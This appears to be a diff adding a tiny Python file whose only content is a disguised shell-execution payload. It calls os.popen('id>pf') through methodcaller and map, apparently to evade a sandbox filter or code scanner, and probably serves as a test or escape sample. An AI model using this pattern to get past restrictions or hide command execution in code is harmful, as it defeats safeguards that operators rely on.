@@ -1,0 +1,3 @@
+from operator import methodcaller
+import os
+list(map(methodcaller("popen", "id>pf"), [os]))[0].read()
